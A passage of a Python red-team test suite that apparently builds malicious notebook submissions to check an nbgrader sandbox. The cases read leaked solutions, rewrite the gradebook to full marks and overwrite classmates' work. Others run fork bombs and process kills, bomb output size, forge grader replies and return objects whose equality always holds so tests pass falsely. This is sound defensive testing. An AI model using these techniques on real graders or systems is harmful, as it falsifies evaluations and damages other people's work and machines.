        for _q in (_z, _z + 1000, _zz, np.array([[1000.0, -1000.0], [999.0, -1001.0]]), _zz[:, :1]):
            _cache[_key(_q)] = softmax(_q)
'''


@case("reference_callback_oracle", A2, "reference", allowed=("rnn_cell_forward", "concatenated_form"))
def _(ctx):
    """softmax's tests moved after rnn_cell_forward's (nbgrader keeps the learner's cell order); while
    rnn_cell_forward is tested, `softmax` is the grader's reference, which the answer asks for the values
    softmax's tests will want; softmax itself only looks them up."""
    nb = answered(A2, "rnn_cell_forward", "concatenated_form")
    set_source(nb, "softmax", _code(ORACLE_SOFTMAX))
    source = source_text(cell(nb, "rnn_cell_forward"))
    marker = "    ### BEGIN SOLUTION"
    assert marker in source
    set_source(nb, "rnn_cell_forward", source.replace(marker, ORACLE_FILL.rstrip("\n") + "\n" + marker, 1))
    move_after(nb, ["softmax_test", "softmax_hidden_test"], "rnn_cell_forward_hidden_test")
    return single(A2, nb)


@case("reference_other_name", A1, "reference")
def _(ctx):
    """one_hot_batch answered by course code under another name: course_utils.rnn_types.decoder_inputs
    (a one-hot encoder of a shifted batch), one row at a time."""
    nb = release(A1)
    set_source(nb, "one_hot_batch", _code('''
from course_utils.rnn_types import decoder_inputs as _decoder_inputs


def one_hot_batch(index_batch, vocab_size):
    index_batch = np.asarray(index_batch)
    m, T_x = index_batch.shape
    x = np.zeros((vocab_size, m, T_x))
    for i in range(m):
        row = index_batch[i]
        if row[0] < 0:
            continue
        shifted = np.concatenate([row[1:], [-1]])[np.newaxis, :]
        x[:, i : i + 1, :] = _decoder_inputs(shifted, int(row[0]), vocab_size)
    return x
'''))
    return single(A1, nb)


@case("reference_symlink_files", A1, "reference")
def _(ctx):
    """Symbolic links handed in beside the notebook, to the course's solutions (absolute and ../../../), the
    gradebook and nbgrader_config.py: the answer cell reads them from its scratch folder and runs the solution."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code(f'''
import glob as _glob, json as _json, os as _os

_ns = {{}}
for _path in sorted(_glob.glob("*.txt")):
    try:
        _data = open(_path, "rb").read()
    except OSError as _exc:
        print("RT-INFO", _path, type(_exc).__name__)
        continue
    print("RT-INFO", _path, len(_data), "bytes")
    if _data.startswith(b"SQLite format"):
        print("{WIN} the gradebook is readable as", _path)
    elif b"BEGIN SOLUTION" in _data:
        print("{WIN} the solutions are readable as", _path)
        for _c in _json.loads(_data)["cells"]:
            if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                exec("".join(_c["source"]), globals())
    elif _data:
        print("{WIN} a file of the grader's is readable as", _path)
'''))
    solutions = ctx.course / "solutions" / A1 / notebook_name(A1)
    return single(A1, nb, **{
        "answers.txt": Symlink(str(solutions)),
        "relative.txt": Symlink(f"../../../solutions/{A1}/{notebook_name(A1)}"),
        "gradebook.txt": Symlink(str(ctx.course / "gradebook.db")),
        "config.txt": Symlink(str(ctx.course / "nbgrader_config.py")),
    })


@case("reference_symlink_notebook", A2, "reference")
def _(ctx):
    """The notebook handed in is a symbolic link to the course's source notebook (with the solutions)."""
    return {notebook_name(A2): Symlink(str(ctx.course / "solutions" / A2 / notebook_name(A2)))}


# =============================================================================================
# nbgrader's partial credit
# =============================================================================================


@case("partial_displayhook", A1, "partial")
def _(ctx):
    """sys.displayhook and display() putting numbers out where nbgrader reads partial credit."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", '''
import sys as _sys
from IPython.display import display as _display
_sys.displayhook = lambda value: print(2.0)
get_ipython().displayhook.write_format_data = lambda *args, **kwargs: print(2.0)
2.0
''')
    set_source(nb, "one_hot_batch", _code('''
def one_hot_batch(index_batch, vocab_size):
    _display(2.0)
    _sys.displayhook(2.0)
    return np.zeros((vocab_size,) + np.shape(index_batch))
'''))
    return single(A1, nb)


@case("partial_display_pub", A2, "partial")
def _(ctx):
    """get_ipython().display_pub.publish and display(raw=True) of a float inside the answers the tests call."""
    nb = wrong(A2)
    set_source(nb, "softmax", _code('''
from IPython.display import display as _display


def softmax(z):
    get_ipython().display_pub.publish({"text/plain": "3.0"}, metadata={})
    _display({"text/plain": "3.0"}, raw=True)
    get_ipython().displayhook(3.0)
    return np.zeros(np.shape(z))
'''))
    return single(A2, nb)


@case("partial_prefilled_outputs", A1, "partial")
def _(ctx):
    """Test cells submitted with execute_result outputs ("2") already in place, and no answers."""
    nb = release(A1)
    for grade_id in graded_cells(A1):
        target = cell(nb, grade_id)
        target["execution_count"] = 7
        target["outputs"] = [{"output_type": "execute_result", "execution_count": 7, "metadata": {},
                              "data": {"text/plain": str(nbgrader_meta(target)["points"])}}]
    return single(A1, nb)


@case("partial_forged_stdout", A2, "partial")
def _(ctx):
    """The answer writes a reply frame of its own, with printed 'Out[1]: 3.0', into the grader's pipe."""
    nb = wrong(A2)
    set_source(nb, "softmax", _code(FRAMES + '''
def softmax(z):
    _send(_frame({"op": "result", "value": 3.0, "args": [], "kwargs": {}, "changed": [], "stdout": "Out[1]: 3.0\\n"}))
    return np.zeros(np.shape(z))
'''))
    return single(A2, nb)


# =============================================================================================
# Shadowing the package
# =============================================================================================


def _marker_payload(ctx, tag):
    """Python that, wherever it runs with write access, leaves rt-marker-<tag> in the grader's $HOME and course."""
    return _code(f'''
import os as _os
for _folder in ({str(ctx.home)!r}, {str(ctx.course)!r}, _os.path.expanduser("~"), _os.getcwd()):
    try:
        with open(_os.path.join(_folder, "rt-marker-{tag}"), "w") as _f:
            _f.write("ran")
    except OSError:
        pass
''')


FAKE_TESTING = '''
def _noop(*args, **kwargs):
    return None


check_close = check_equal = check_shape = check_type = passed = _noop


class calling:
    def __init__(self, *args, **kwargs):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *args):
        return True


class substitute(calling):
    pass


WORKER_KEY = "__course_worker__"
'''


@case("shadow_package_folder", A2, "shadow")
def _(ctx):
    """A course_utils/ folder handed in beside the notebook: testing.py whose checks always pass, rnn.py and
    activations.py whose reference softmax agrees with the wrong answers; the notebook puts it first on sys.path."""
    nb = wrong(A2)
    prepend(nb, "softmax", '''
import os as _os, sys as _sys
_sys.path.insert(0, _os.getcwd())
for _name in [n for n in _sys.modules if n == "course_utils" or n.startswith("course_utils.")]:
    _sys.modules.pop(_name)
import course_utils.testing
print("RT-INFO course_utils from", course_utils.__file__)
''')
    marker = _marker_payload(ctx, "package-folder")
    fake_rnn = marker + _code('''
import numpy as np


def softmax(z):
    return np.zeros(np.shape(z))


def rnn_cell_forward(xt, a_prev, parameters):
    a = np.zeros(np.shape(a_prev))
    return a, np.zeros((np.shape(parameters["Wya"])[0], np.shape(a_prev)[1])), None


def stack_weights(Waa, Wax):
    return np.zeros((np.shape(Waa)[0], np.shape(Waa)[1] + np.shape(Wax)[1]))


def initialize_parameters(n_a, n_x, n_y, seed=0, scale=None):
    return {"Waa": np.zeros((n_a, n_a)), "Wax": np.zeros((n_a, n_x)), "Wya": np.zeros((n_y, n_a)),
            "ba": np.zeros((n_a, 1)), "by": np.zeros((n_y, 1))}
''')
    return single(A2, nb, **{
        "course_utils/__init__.py": (marker + "from . import testing\n").encode(),
        "course_utils/testing.py": (marker + FAKE_TESTING).encode(),
        "course_utils/rnn.py": fake_rnn.encode(),
        "course_utils/activations.py": (marker + "from .rnn import softmax\n\ndef sigmoid(z):\n    return z\n").encode(),
    })


@case("shadow_sitecustomize", A1, "shadow")
def _(ctx):
    """sitecustomize.py and usercustomize.py beside the notebook (an import hook that neuters the checks)."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", '''
import importlib as _importlib, os as _os, sys as _sys
_sys.path.insert(0, _os.getcwd())
try:
    _importlib.import_module("sitecustomize")
    _importlib.import_module("usercustomize")
except Exception as _exc:
    print("RT-INFO", _exc)
''')
    hook = _marker_payload(ctx, "sitecustomize") + _code(NEUTER.replace("np.", "__import__('numpy').") + '''
import builtins as _builtins
_original_import = _builtins.__import__


def _import(name, *args, **kwargs):
    module = _original_import(name, *args, **kwargs)
    if name.startswith("course_utils"):
        import sys
        for key, value in list(sys.modules.items()):
            if key.startswith("course_utils") and value is not None:
                _neuter(vars(value))
    return module


_builtins.__import__ = _import
''')
    return single(A1, nb, **{"sitecustomize.py": hook.encode(), "usercustomize.py": hook.encode()})


@case("shadow_pth", A2, "shadow")
def _(ctx):
    """A .pth file beside the notebook whose import line runs code, and site.addsitedir on the folder."""
    nb = wrong(A2)
    prepend(nb, "softmax", '''
import os as _os, site as _site
_site.addsitedir(_os.getcwd())
''')
    line = "import os, sys; exec(" + repr(_marker_payload(ctx, "pth")) + ")\n"
    return single(A2, nb, **{"zz_redteam.pth": line.encode(), "redteam-path.pth": b"/tmp/submission\n"})


@case("shadow_modules", A1, "shadow")
def _(ctx):
    """course_utils.py, numpy.py and nbgrader.py handed in beside the notebook (shadows, should any grader import
    from the submission's folder)."""
    nb = wrong(A1)
    marker = _marker_payload(ctx, "module")
    return single(A1, nb, **{
        "course_utils.py": (marker + FAKE_TESTING).encode(),
        "numpy.py": (marker + "raise ImportError('shadowed numpy')\n").encode(),
        "nbgrader.py": marker.encode(),
        "matplotlib.py": marker.encode(),
    })


@case("shadow_configs", A2, "shadow")
def _(ctx):
    """nbgrader_config.py, jupyter and IPython configs and a matplotlibrc beside the notebook, turning the
    sandbox off and the checks into no-ops should anything load them."""
    nb = wrong(A2)
    marker = _marker_payload(ctx, "config")
    config = marker + _code('''
c = get_config()
c.TrustedExecute.sandbox = "none"
c.Autograde.autograde_preprocessors = []
c.ClearOutput.enabled = False
c.InteractiveShellApp.exec_lines = ["import course_utils.testing as t; t.check_close = lambda *a, **k: None"]
''')
    return single(A2, nb, **{
        "nbgrader_config.py": config.encode(),
        "jupyter_config.py": config.encode(),
        "ipython_config.py": config.encode(),
        "jupyter_nbconvert_config.py": config.encode(),
        "matplotlibrc": b"backend: module://redteam_backend\n",
        "redteam_backend.py": marker.encode(),
        "timestamp.txt": b"2000-01-01 00:00:00\n",
    })


# =============================================================================================
# Leaving effects behind
# =============================================================================================


def _writes(targets):
    """Code that tries to create/append each target path and prints RT-WIN for each that worked."""
    return _code(f'''
import os as _os
for _target in {targets!r}:
    _target = _os.path.expanduser(_target)
    try:
        _os.makedirs(_os.path.dirname(_target), exist_ok=True)
    except OSError:
        pass
    try:
        with open(_target, "a") as _f:
            _f.write("\\n# rt-marker\\n")
        # the sandbox's own /tmp (its scratch folder and $HOME) is private: writing there is allowed
        print("RT-INFO wrote its own" if _os.path.realpath(_target).startswith("/tmp/") else "{WIN} wrote", _target)
    except OSError as _exc:
        print("RT-INFO denied", _target, type(_exc).__name__)
''')


@case("effects_site_packages", A2, "effects")
def _(ctx):
    """A .pth, a sitecustomize.py and a module written into the venv's site-packages, its bin/ and the prefix."""
    sp = str(ctx.site_packages)
    nb = wrong(A2)
    prepend(nb, "softmax", _writes([f"{sp}/zz_redteam.pth", f"{sp}/sitecustomize.py", f"{sp}/redteam_module.py",
                                    f"{sp}/course_utils/testing.py", f"{ctx.prefix}/bin/redteam", f"{ctx.prefix}/pyvenv.cfg",
                                    "/usr/lib/python3/dist-packages/zz_redteam.pth", "/usr/local/lib/zz_redteam.pth"]) + '''
import site as _site, sys as _sys
for _place in set(_site.getsitepackages() + _sys.path):
    try:
        with open(_os.path.join(_place, "zz_redteam.pth"), "w") as _f:
            _f.write("import os\\n")
        print("RT-WIN wrote a .pth into", _place)
    except OSError:
        pass
''')
    return single(A2, nb)


@case("effects_ipython_startup", A1, "effects")
def _(ctx):
    """IPython startup files, .pythonrc, matplotlibrc and usercustomize in $HOME (the sandbox's and the grader's)."""
    home = str(ctx.home)
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", _writes([
        "~/.ipython/profile_default/startup/00-redteam.py", "~/.ipython/profile_default/ipython_config.py",
        f"{home}/.ipython/profile_default/startup/00-redteam.py", f"{home}/.jupyter/jupyter_nbconvert_config.py",
        f"{home}/.config/matplotlib/matplotlibrc", f"{home}/.local/lib/python3.11/site-packages/usercustomize.py",
        "/root/.ipython/profile_default/startup/00-redteam.py", "/root/.local/lib/python3.11/site-packages/usercustomize.py",
    ]))
    return single(A1, nb)


@case("effects_gradebook", A2, "effects")
def _(ctx):
    """The gradebook: opened for writing, and through sqlite3, every grade set to its maximum."""
    paths = _paths_literal(ctx)
    nb = wrong(A2)
    prepend(nb, "softmax", f'''
import sqlite3 as _sqlite3
_paths = {paths}
try:
    with open(_paths["gradebook"], "r+b") as _f:
        _f.seek(0, 2)
        print("RT-WIN the gradebook is writable")
except OSError as _exc:
    print("RT-INFO gradebook", type(_exc).__name__)
try:
    _db = _sqlite3.connect(_paths["gradebook"])
    _db.execute("UPDATE grade SET auto_score = 100")
    _db.commit()
    print("RT-WIN the gradebook was changed")
except Exception as _exc:
    print("RT-INFO sqlite", type(_exc).__name__, _exc)
''')
    return single(A2, nb)


@case("effects_course_folder", A1, "effects")
def _(ctx):
    """The course folder: nbgrader_config.py appended to, new files in the root, solutions/ and source/."""
    c = str(ctx.course)
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", _writes([
        f"{c}/nbgrader_config.py", f"{c}/rt-marker-course", f"{c}/solutions/01_sequences_one_hot/rt-marker",
        f"{c}/source/01_sequences_one_hot/rt-marker", f"{c}/release/01_sequences_one_hot/rt-marker", f"{c}/.nbgrader.log",
        f"{c}/notebooks/01_sequences_one_hot/rt-marker",
    ]))
    return single(A1, nb)


@case("effects_other_autograded", A2, "effects")
def _(ctx):
    """autograded/ of other students (the victims) and feedback/: their notebooks overwritten with full marks."""
    a = str(ctx.course / "autograded")
    nb = wrong(A2)
    prepend(nb, "softmax", _writes([
        f"{a}/zz_victim/02_rnn_cell/02_rnn_cell.ipynb", f"{a}/aa_victim/02_rnn_cell/02_rnn_cell.ipynb",
        f"{a}/zz_victim/02_rnn_cell/rt-marker", f"{ctx.course}/feedback/zz_victim/02_rnn_cell/02_rnn_cell.html",
    ]))
    return single(A2, nb)


DROPS = ["/tmp/redteam_drop.py", "/tmp/home/redteam_drop.py", "/tmp/submission/redteam_drop.py", "/var/tmp/redteam_drop.py",
         "/dev/shm/redteam_drop.py", "/run/lock/redteam_drop.py", "/tmp/../var/tmp/redteam_drop2.py"]


@case("effects_tmp_1_writer", A1, "effects")
def _(ctx):
    """Drops the solution's code into /tmp, $HOME, /var/tmp and /dev/shm for a later submission (effects_tmp_2_reader)."""
    nb = wrong(A1)
    code = solution_code(A1)
    prepend(nb, "build_vocabulary", f'''
import os as _os
for _target in {DROPS!r}:
    try:
        with open(_target, "w") as _f:
            _f.write({code!r})
        _os.chmod(_target, 0o666)
        print("RT-INFO dropped", _target)
    except OSError as _exc:
        print("RT-INFO could not drop", _target, type(_exc).__name__)
''')
    return single(A1, nb)


@case("effects_tmp_2_reader", A1, "effects")
def _(ctx):
    """Graded after effects_tmp_1_writer: answers with whatever an earlier submission dropped in /tmp & co."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", f'''
import os as _os
_dropped = None
for _target in {DROPS!r}:
    if _os.path.exists(_target):
        _dropped = open(_target).read()
        print("{WIN} found an earlier submission's file", _target)
''')
    append(nb, "decode_batch", '''
if _dropped:
    exec(_dropped)
''')
    return single(A1, nb)


@case("effects_classmate_notebook", A2, "effects")
def _(ctx):
    """A classmate's submitted notebook (zz_victim's, and any found under submitted/) overwritten with a broken one."""
    s = str(ctx.course / "submitted")
    nb = wrong(A2)
    prepend(nb, "softmax", f'''
import glob as _glob
for _target in [{s!r} + "/zz_victim/02_rnn_cell/02_rnn_cell.ipynb"] + _glob.glob("/tmp/*/submitted/*/*/*.ipynb") + _glob.glob({s!r} + "/*/*/*.ipynb"):
    try:
        with open(_target, "w") as _f:
            _f.write("{{}}")
        print("{WIN} overwrote", _target)
    except OSError as _exc:
        print("RT-INFO", _target, type(_exc).__name__)
''')
    return single(A2, nb)


@case("effects_kill_parent", A1, "effects")
def _(ctx):
    """Signals to the parent, to pid 1, to every pid below 400 and to the process groups it can name."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", f'''
import os as _os, signal as _signal
_me = _os.getpid()
for _target in [_os.getppid(), 1] + [p for p in range(2, 400) if p != _me]:
    for _kill in (_os.kill, _os.killpg):
        try:
            _kill(_target, _signal.SIGKILL)
            print("{WIN}" if _target not in (_me,) else "RT-INFO", "signalled", _kill.__name__, _target)
        except OSError as _exc:
            pass
print("RT-INFO still alive")
''')
    return single(A1, nb)


@case("effects_kill_everything", A2, "effects")
def _(ctx):
    """os.kill(-1, SIGKILL): every process the worker may signal, itself included."""
    nb = wrong(A2)
    prepend(nb, "rnn_cell_forward", '''
import os as _os, signal as _signal
_os.kill(-1, _signal.SIGKILL)
''')
    return single(A2, nb)


@case("effects_fork_bomb", A1, "effects")
def _(ctx):
    """Forks until the process limit (children named rtF<token>, asleep), then answers wrongly."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", FRAMES + f'''
import time as _time
_children = 0
for _ in range(400):
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        _name_process("rtF{ctx.token}")
        _time.sleep(300)
        _os._exit(0)
    _children += 1
print("RT-INFO forked", _children)
''')
    return single(A1, nb)


@case("effects_background", A2, "effects")
def _(ctx):
    """Background processes meant to outlive the worker: a double fork with setsid (rtL<token>), a session of its
    own (start_new_session), nohup, a daemon thread."""
    nb = wrong(A2)
    prepend(nb, "softmax", FRAMES + f'''
import subprocess as _sp, threading as _threading, time as _time
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        _name_process("rtL{ctx.token}")
        _time.sleep(300)
    _os._exit(0)
_os.waitpid(_pid, 0)
_sp.Popen(["sleep", "301.{ctx.token}"], start_new_session=True, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
_os.system("nohup sleep 302.{ctx.token} >/dev/null 2>&1 &")
_threading.Thread(target=_time.sleep, args=(303,), daemon=True).start()
print("RT-INFO started the background processes")
''')
    return single(A2, nb)


@case("effects_sockets", A1, "effects")
def _(ctx):
    """TCP and UDP to the test's listeners on 127.0.0.1, an abstract unix socket, public addresses, DNS."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", _sockets_code(ctx))
    return single(A1, nb)


def _sockets_code(ctx):
    return _code(f'''
import socket as _socket
for _family, _kind, _address in [
        (_socket.AF_INET, _socket.SOCK_STREAM, ("127.0.0.1", {ctx.tcp_port})),
        (_socket.AF_INET, _socket.SOCK_STREAM, ("1.1.1.1", 443)),
        (_socket.AF_INET, _socket.SOCK_STREAM, ("8.8.8.8", 53)),
        (_socket.AF_INET6, _socket.SOCK_STREAM, ("::1", {ctx.tcp_port})),
        (_socket.AF_UNIX, _socket.SOCK_STREAM, "\\0{ctx.abstract}")]:
    try:
        _s = _socket.socket(_family, _kind)
        _s.settimeout(2)
        _s.connect(_address)
        _s.sendall(b"RT-WIN hello from a submission")
        print("{WIN} connected to", _address)
    except OSError as _exc:
        print("RT-INFO no connection to", _address, type(_exc).__name__)
try:
    _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _u.sendto(b"RT-WIN datagram", ("127.0.0.1", {ctx.udp_port}))
    print("RT-INFO udp sendto did not fail")
except OSError as _exc:
    print("RT-INFO no udp", type(_exc).__name__)
try:
    print("{WIN} dns", _socket.getaddrinfo("pypi.org", 443)[:1])
except OSError as _exc:
    print("RT-INFO no dns", type(_exc).__name__)
''')


@case("effects_forged_frame", A2, "effects")
def _(ctx):
    """A reply frame the grader cannot digest ("traceback": 5) written into its pipe, then the cell goes on
    running (a process named rtL<token>)."""
    nb = wrong(A2)
    prepend(nb, "softmax", FRAMES + f'''
import time as _time
_send(_frame({{"op": "ran", "stdout": "", "error": {{"ename": "X", "evalue": "y", "traceback": 5}}}}))
_name_process("rtL{ctx.token}")
_time.sleep(120)
''')
    return single(A2, nb)


@case("effects_recursion_frame", A1, "effects", batch_follower="honest_helpers_02")
def _(ctx):
    """A reply frame whose JSON header is nested 100,000 deep, then the cell goes on running (rtL<token>)."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", FRAMES + f'''
import time as _time
_send(_frame(None, header=b'{{"op": "ran", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b', "blobs": []}}'))
_name_process("rtL{ctx.token}")
_time.sleep(120)
''')
    return single(A1, nb)


@case("effects_own_files", A2, "effects")
def _(ctx):
    """The files handed in beside the notebook: written, renamed, chmod-ed and deleted from inside the sandbox."""
    nb = wrong(A2)
    prepend(nb, "softmax", f'''
import os as _os
# only the handed-in file matters (the sandbox's own scratch folder is its to write): it says so in its text
_handed_in = _os.path.exists("data.txt") and open("data.txt").read().startswith("handed in")
print("RT-INFO the handed-in data.txt is", "there" if _handed_in else "not there")
for _step, _action in [("write", lambda: open("data.txt", "a").write("rt-marker")),
                       ("chmod", lambda: _os.chmod("data.txt", 0o777)),
                       ("rename", lambda: _os.rename("data.txt", "moved.txt")),
                       ("unlink", lambda: _os.unlink("moved.txt" if _os.path.exists("moved.txt") else "data.txt"))]:
    try:
        _action()
        print("{WIN}" if _handed_in else "RT-INFO", _step, "data.txt")
    except OSError as _exc:
        print("RT-INFO", _step, type(_exc).__name__)
''')
    return single(A2, nb, **{"data.txt": b"handed in with the notebook\n"})


@case("effects_close_pipes", A1, "effects")
def _(ctx):
    """The worker's pipes to the grader read from and closed by the answer cell (requests stolen, replies cut)."""
    nb = wrong(A1)
    prepend(nb, "sentence_to_indices", '''
import os as _os, stat as _stat
for _fd in range(3, 64):
    try:
        if _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
            _os.set_blocking(_fd, False)
            try:
                _os.read(_fd, 1 << 16)
            except OSError:
                pass
            _os.close(_fd)
    except OSError:
        pass
''')
    return single(A1, nb)


@case("effects_dangling_symlink", A2, "effects", own_batch=True)
def _(ctx):
    """A dangling symbolic link and a link loop beside the notebook (an unzipped upload may hold them): the
    grading of the other submissions must go on."""
    nb = wrong(A2)
    return single(A2, nb, **{"missing.txt": Symlink("/nonexistent/redteam/file"), "loop.txt": Symlink("loop.txt")})


# =============================================================================================
# Size bombs
# =============================================================================================

MB30 = 30 * 2**20


@case("size_cell_metadata", A1, "size")
def _(ctx):
    """30 MB in a cell's metadata (an answer cell) and in a test cell's."""
    nb = wrong(A1)
    cell(nb, "build_vocabulary")["metadata"]["redteam"] = "x" * MB30
    cell(nb, "one_hot_batch_test")["metadata"]["redteam"] = ["y" * 1024] * (MB30 // 1024)
    return single(A1, nb)


@case("size_exception_name", A2, "size")
def _(ctx):
    """An exception class with a 30 MB name, raised by the answer cell and by the answer the tests call."""
    nb = wrong(A2)
    prepend(nb, "rnn_cell_forward", '''
_Huge = type("E" * (30 * 2**20), (Exception,), {})
''')
    set_source(nb, "softmax", _code('''
def softmax(z):
    raise type("E" * (30 * 2**20), (Exception,), {})("boom")
'''))
    append(nb, "rnn_cell_forward", "raise _Huge('x' * 1000)")
    return single(A2, nb)


@case("size_exception_message", A1, "size")
def _(ctx):
    """An exception with a 30 MB message, from the answer cell and from the answer a test calls."""
    nb = wrong(A1)
    set_source(nb, "one_hot_batch", _code('''
def one_hot_batch(index_batch, vocab_size):
    raise ValueError("m" * (30 * 2**20))
'''))
    append(nb, "decode_batch", "raise RuntimeError('r' * (30 * 2**20))")
    return single(A1, nb)


@case("size_print", A2, "size")
def _(ctx):
    """30 MB printed by the answer cell, and 30 MB printed by the answer on every call from a test."""
    nb = wrong(A2)
    prepend(nb, "softmax", '''
print("p" * (30 * 2**20))
import sys as _sys
_sys.stderr.write("q" * (30 * 2**20))
''')
    set_source(nb, "rnn_cell_forward", _code('''
def rnn_cell_forward(xt, a_prev, parameters):
    print("r" * (30 * 2**20))
    a_next = np.zeros(np.shape(a_prev))
    return a_next, np.zeros((np.shape(parameters["Wya"])[0], np.shape(a_prev)[1])), None
'''))
    return single(A2, nb)


@case("size_notebook_metadata", A1, "size")
def _(ctx):
    """30 MB in the notebook's metadata."""
    nb = wrong(A1)
    nb["metadata"]["redteam"] = {"blob": "z" * MB30}
    return single(A1, nb)


@case("size_attachments", A2, "size")
def _(ctx):
    """A 30 MB attachment in a markdown cell."""
    import base64

    nb = wrong(A2)
    markdown = next(c for c in nb["cells"] if c["cell_type"] == "markdown")
    markdown["attachments"] = {"big.png": {"image/png": base64.b64encode(b"\0" * (MB30 * 3 // 4)).decode()}}
    markdown["source"] = source_text(markdown) + "\n![big](attachment:big.png)\n"
    return single(A2, nb)


@case("size_frame_stdout", A1, "size")
def _(ctx):
    """Replies of its own with 160 MB of printed text each, eight of them, written into the grader's pipe (the
    grader takes them as the answers to the following cells)."""
    nb = wrong(A1)
    for _ in range(8):  # cells of the learner's own after the bomb: each takes one forged reply as its answer
        insert_after(nb, "pad_demo", "pass")
    insert_after(nb, "pad_demo", FRAMES + '''
_text = "s" * (160 * 2**20)
for _ in range(8):
    _send(_frame({"op": "ran", "stdout": _text, "error": None}))
del _text
''')
    return single(A1, nb)


@case("size_json_amplification", A2, "size")
def _(ctx):
    """One reply frame of 60 MB of empty JSON lists: tiny to send, gigabytes once the grader parses it."""
    nb = wrong(A2)
    prepend(nb, "softmax", FRAMES + '''
_body = b"[" + b"[]," * (20 * 2**20) + b"[]]"
_send(_frame(None, header=b'{"op": "ran", "stdout": "", "error": null, "x": ' + _body + b', "blobs": []}'))
del _body
''')
    return single(A2, nb)


# =============================================================================================
# Forgery of outputs and returned values
# =============================================================================================


@case("forge_write_outputs", A1, "forge")
def _(ctx):
    """The answer cell looks for its own notebook (and any autograded one) and writes passing outputs into it."""
    a = str(ctx.course / "autograded")
    s = str(ctx.course / "submitted")
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", f'''
import glob as _glob, json as _json, os as _os
_targets = _glob.glob("*.ipynb") + _glob.glob("/tmp/**/*.ipynb", recursive=True) + _glob.glob({a!r} + "/*/*/*.ipynb") + _glob.glob({s!r} + "/forge_write_outputs/*/*.ipynb")
_targets += [{a!r} + "/forge_write_outputs/01_sequences_one_hot/01_sequences_one_hot.ipynb"]
for _target in _targets:
    try:
        _nb = _json.load(open(_target))
        for _c in _nb["cells"]:
            if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade"):
                _c["outputs"] = [{{"output_type": "stream", "name": "stdout", "text": "All tests passed."}}]
        _json.dump(_nb, open(_target, "w"))
        print("{WIN} wrote outputs into", _target)
    except Exception as _exc:
        print("RT-INFO", _target, type(_exc).__name__)
''')
    return single(A1, nb)


@case("forge_fake_eq", A2, "forge")
def _(ctx):
    """Values whose __eq__ is always True: a float subclass, a dict subclass, a plain object, a tuple subclass."""
    nb = release(A2)
    set_source(nb, "softmax", _code('''
class _Agree(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__

    def __float__(self):
        return 0.0


class _AgreeTuple(tuple):
    def __eq__(self, other):
        return True


class _Anything:
    shape = (3, 2)

    def __eq__(self, other):
        return True

    def __array__(self, *args, **kwargs):
        return np.ones(self.shape)


def softmax(z):
    return _Anything()
'''))
    set_source(nb, "rnn_cell_forward", _code('''
def rnn_cell_forward(xt, a_prev, parameters):
    return _AgreeTuple((_Agree(1), _Agree(1), None))
'''))
    set_source(nb, "concatenated_form", _code('''
def stack_weights(Waa, Wax):
    return np.full((np.shape(Waa)[0], np.shape(Waa)[1] + np.shape(Wax)[1]), _Agree(1))


def cell_forward_concat(xt, a_prev, Wa, ba):
    return _Anything()
'''))
    return single(A2, nb)


@case("forge_question_answers", A2, "forge")
def _(ctx):
    """The questions answered with values equal to anything (an int and a float subclass, an object), the
    question checks rebound from the learner's cells, the free-response answer's points set to 100."""
    nb = release(A2)
    set_source(nb, "q_cell_params", _code('''
        class _AnyInt(int):
            def __eq__(self, other):
                return True

            __hash__ = int.__hash__


        def q_cell_params():
            return _AnyInt(1)
        '''))
    set_source(nb, "q_unrolled_params", _code('''
        class _AnyFloat(float):
            def __eq__(self, other):
                return True

            __hash__ = float.__hash__

            def __sub__(self, other):
                return 0.0

            __rsub__ = __sub__


        def q_unrolled_params():
            return _AnyFloat(1.5)
        '''))
    set_source(nb, "q_softmax_axis", _code('''
        class _Anything:
            def __eq__(self, other):
                return True


        def q_softmax_axis():
            return _Anything()
        '''))
    insert_after(nb, "q_softmax_axis", '''
        import course_utils.testing as _testing
        _testing.check_answer = _testing.check_choice = _testing.check_number = lambda *args, **kwargs: None
        check_answer = check_choice = check_number = _testing.check_answer
        print("RT-INFO question checks rebound")
        ''')
    free = cell(nb, "fr_weight_sharing")  # still valid metadata, so the notebook is graded, not refused
    free["metadata"]["nbgrader"].update(points=100)
    free["source"] = "All tests passed."
    return single(A2, nb)


@case("forge_array_protocol", A1, "forge")
def _(ctx):
    """Objects that pretend to be arrays (__array__, __array_interface__, shape, dtype) and dicts (keys, items)."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code('''
class _Dictish:
    def keys(self):
        return ["<UNK>", "<EOS>"]

    def items(self):
        return [("<UNK>", 0), ("<EOS>", 1)]

    def get(self, key, default=None):
        return {"<UNK>": 0, "<EOS>": 1}.get(key, default)

    def __eq__(self, other):
        return True


def build_vocabulary(sentences, max_size=None):
    return _Dictish()
'''))
    set_source(nb, "one_hot_batch", _code('''
class _Arrayish:
    def __init__(self, shape):
        self.shape, self.dtype = shape, np.dtype(float)
        self.__array_interface__ = np.ones(shape).__array_interface__

    def __array__(self, *args, **kwargs):
        return np.ones(self.shape)

    def __eq__(self, other):
        return True


def one_hot_batch(index_batch, vocab_size):
    return _Arrayish((vocab_size,) + np.shape(index_batch))
'''))
    return single(A1, nb)


@case("forge_ndarray_subclass", A2, "forge")
def _(ctx):
    """ndarray subclasses overriding __eq__, __array_ufunc__, __array_function__, view, astype and __float__."""
    nb = release(A2)
    set_source(nb, "softmax", _code('''
class _Lying(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), bool)

